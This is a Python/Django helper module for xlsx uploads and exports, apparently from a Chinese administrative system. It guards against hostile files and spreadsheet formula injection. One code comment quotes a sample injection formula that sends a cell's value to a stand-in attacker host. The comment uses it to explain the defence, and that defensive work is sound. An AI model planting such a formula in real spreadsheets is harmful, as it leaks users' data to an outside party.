"""Small helpers shared by every xlsx import and export."""

import io
import re
from datetime import datetime

from django.http import HttpResponse
from django.utils import timezone
from django.utils.encoding import escape_uri_path
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

from wenming.core.text import printable

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FULL_WIDTH_DIGITS = str.maketrans("０１２３４５６７８９　", "0123456789 ")
FULL_WIDTH_PUNCTUATION = str.maketrans("（）：，．", "():,.")


class UnreadableWorkbook(Exception):
    pass


def open_workbook(uploaded) -> Workbook:
    """Open an uploaded xlsx read-only, with a Chinese message for anything that is not one. The limits against
    hostile files (size, zip bombs, macros, a million declared rows) are checked before openpyxl sees it."""
    from wenming.core.tables import UnreadableFile, check_upload, read_upload

    name = getattr(uploaded, "name", "") or ""
    if name.lower().endswith((".xls", ".et", ".csv")):
        raise UnreadableWorkbook(f"不支持“{name}”的格式，请在 Excel 或 WPS 中另存为 .xlsx 后再上传（可先下载模板）。")
    try:
        data = read_upload(uploaded)
        if not data:
            raise UnreadableWorkbook("上传的文件是空的。")
        if check_upload(data, name) != "xlsx":
            raise UnreadableWorkbook("无法读取该文件：它不是 .xlsx 工作簿（可先下载模板，按模板填写）。")
        return load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except UnreadableWorkbook:
        raise
    except UnreadableFile as error:
        if any(word in str(error) for word in ("上限", "压缩", "宏", "过大", "密码", "超时")):
            raise UnreadableWorkbook(str(error)) from None  # hostile or too big: say exactly why
        raise UnreadableWorkbook("无法读取该文件：它不是有效的 .xlsx 工作簿（可先下载模板，按模板填写）。") from None
    except Exception:
        raise UnreadableWorkbook("无法读取该文件：它不是有效的 .xlsx 工作簿（可先下载模板，按模板填写）。") from None


def cell_text(value) -> str:
    """A cell as clean text: control characters removed (an import is an edge too), full-width digits folded,
    numbers without a trailing .0, spaces trimmed.

    Punctuation is kept as written (names like 立案庭（诉讼服务中心） must survive); use `match_key` to compare.
    """
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        value = int(value)
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d")
    return re.sub(r"\s+", " ", printable(str(value)).translate(FULL_WIDTH_DIGITS)).strip()


def match_key(value) -> str:
    """Text reduced for matching names: bracket and colon width and letter case do not matter."""
    return cell_text(value).translate(FULL_WIDTH_PUNCTUATION).lower()


def header_key(value) -> str:
    """A header cell reduced for matching: no spaces, no asterisks or brackets of notes."""
    text = cell_text(value).translate(FULL_WIDTH_PUNCTUATION)
    text = re.sub(r"[（(].*?[)）]", "", text)
    return re.sub(r"[\s*＊:：]", "", text)


# --------------------------------------------------------------------------------------------- writing
# Every cell written from stored text goes through `safe_cell` / `put_cell` / `append_row`: its control characters
# removed (openpyxl refuses them, issue 19) and, being text, written as text. A title like
# =HYPERLINK("http://evil.example/?leak="&A1,"点击查看") stays words in Excel, never a live formula: the cell is a
# string cell (t="inlineStr"), which no spreadsheet evaluates, and the text is kept exactly (a re-import reads it
# back unchanged, with no quote added).
SHEET_TITLE_FORBIDDEN = re.compile(r"[\\/*?:\[\]]")


def _set(cell: Cell, value) -> Cell:
    value = printable(value)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # never "f": openpyxl makes any text starting with "=" a formula
    return cell


def safe_cell(sheet, value) -> Cell:
    """A cell for `sheet.append([...])` (normal or write-only sheets) holding `value`, text kept as text."""
    return _set(Cell(sheet), value)


def put_cell(sheet, row: int, column: int, value) -> Cell:
    """`sheet.cell(row=…, column=…, value=…)` with the value written safely."""
    return _set(sheet.cell(row=row, column=column), value)


def append_row(sheet, values) -> None:
    """`sheet.append(values)` with every value written safely."""
    sheet.append([safe_cell(sheet, value) for value in values])


def sheet_title(title: str) -> str:
    """A worksheet name Excel accepts: no control characters or []:*?/\\, at most 31 characters."""
    return SHEET_TITLE_FORBIDDEN.sub(" ", printable(str(title))).strip()[:31] or "Sheet"


def build_workbook(title: str, headers: list[str], rows, *, widths: list[int] | None = None, note: str = "") -> Workbook:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title(title)
    start = 1
    if note:
        put_cell(sheet, 1, 1, note).font = Font(color="666666")
        start = 2
    fill = PatternFill("solid", fgColor="DDE6F0")
    for column, header in enumerate(headers, start=1):
        cell = put_cell(sheet, start, column, header)
        cell.font = Font(bold=True)
        cell.fill = fill
        cell.alignment = Alignment(horizontal="center")
        sheet.column_dimensions[get_column_letter(column)].width = (widths or [])[column - 1] if widths and column <= len(widths) else 16
    for row in rows:
        append_row(sheet, row)
    sheet.freeze_panes = sheet.cell(row=start + 1, column=1)
    return workbook


def table_xlsx(title: str, headers: list[str], rows, *, widths: list[int] | None = None, note: str = "") -> bytes:
    """The layout of `build_workbook` (grey note line, bold shaded headers, frozen panes) written as XML directly:
    for tens of thousands of rows, where openpyxl takes seconds. Every text is an inline string cell, which no
    spreadsheet evaluates — a title starting with "=" stays words."""
    import zipfile
    from xml.sax.saxutils import escape

    def cell(ref: str, value, style: int = 0) -> str:
        value = printable(value)
        styled = f' s="{style}"' if style else ""
        if value is None or value == "":
            return ""
        if isinstance(value, (int, float)) and not isinstance(value, bool):
            return f'<c r="{ref}"{styled}><v>{value}</v></c>'
        return f'<c r="{ref}"{styled} t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'

    letters = [get_column_letter(i) for i in range(1, max(len(headers), 1) + 1)]
    lines, number = [], 0
    if note:
        number += 1
        lines.append(f'<row r="{number}">{cell(f"A{number}", note, 1)}</row>')
    number += 1
    header_row = number
    lines.append(f'<row r="{number}">' + "".join(cell(f"{letters[i]}{number}", text, 2)
                                              for i, text in enumerate(headers)) + "</row>")
    for row in rows:
        number += 1
        lines.append(f'<row r="{number}">' + "".join(cell(f"{letters[i]}{number}", value)
                                                  for i, value in enumerate(row)) + "</row>")
    columns = "".join(f'<col min="{i}" max="{i}" width="{(widths or [])[i - 1] if widths and i <= len(widths) else 16}"'
                      ' customWidth="1"/>' for i in range(1, len(headers) + 1))
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    relations = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    sheet = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet {main} {relations}>'
             f'<sheetViews><sheetView workbookViewId="0"><pane ySplit="{header_row}" topLeftCell="A{header_row + 1}" '
             'activePane="bottomLeft" state="frozen"/></sheetView></sheetViews>'
             f'<cols>{columns}</cols><sheetData>{"".join(lines)}</sheetData></worksheet>')
    styles = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet {main}>'
              '<fonts count="3"><font><sz val="11"/><name val="Calibri"/></font>'
              '<font><sz val="11"/><color rgb="FF666666"/><name val="Calibri"/></font>'
              '<font><b/><sz val="11"/><name val="Calibri"/></font></fonts>'
              '<fills count="3"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/>'
              '</fill><fill><patternFill patternType="solid"><fgColor rgb="FFDDE6F0"/></patternFill></fill></fills>'
              '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
              '<cellXfs count="3"><xf/><xf fontId="1" applyFont="1"/><xf fontId="2" fillId="2" applyFont="1" '
              'applyFill="1" applyAlignment="1"><alignment horizontal="center"/></xf></cellXfs>'
              '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>')
    parts = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://'
        'schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/styles.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://'
        'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        '</Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook {main} {relations}>'
        f'<sheets><sheet name="{escape(sheet_title(title))}" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
        'Target="styles.xml"/></Relationships>',
        "xl/styles.xml": styles,
        "xl/worksheets/sheet1.xml": sheet,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, text in parts.items():
            package.writestr(name, text.encode("utf-8"))
    return buffer.getvalue()


def download_response(content: bytes, filename: str, content_type: str) -> HttpResponse:
    """An export as an attachment, never kept by a browser or proxy cache (it holds the unit's data)."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{escape_uri_path(filename)}"
    response["Cache-Control"] = "private, no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response


def xlsx_response(workbook: Workbook, filename: str) -> HttpResponse:
    """`filename` with the Beijing time it was made: "整改台账.xlsx" → "整改台账-20261202-2056.xlsx"."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    stem = filename.removesuffix(".xlsx")
    return download_response(buffer.getvalue(), f"{stem}-{timezone.localtime():%Y%m%d-%H%M}.xlsx", XLSX_TYPE)
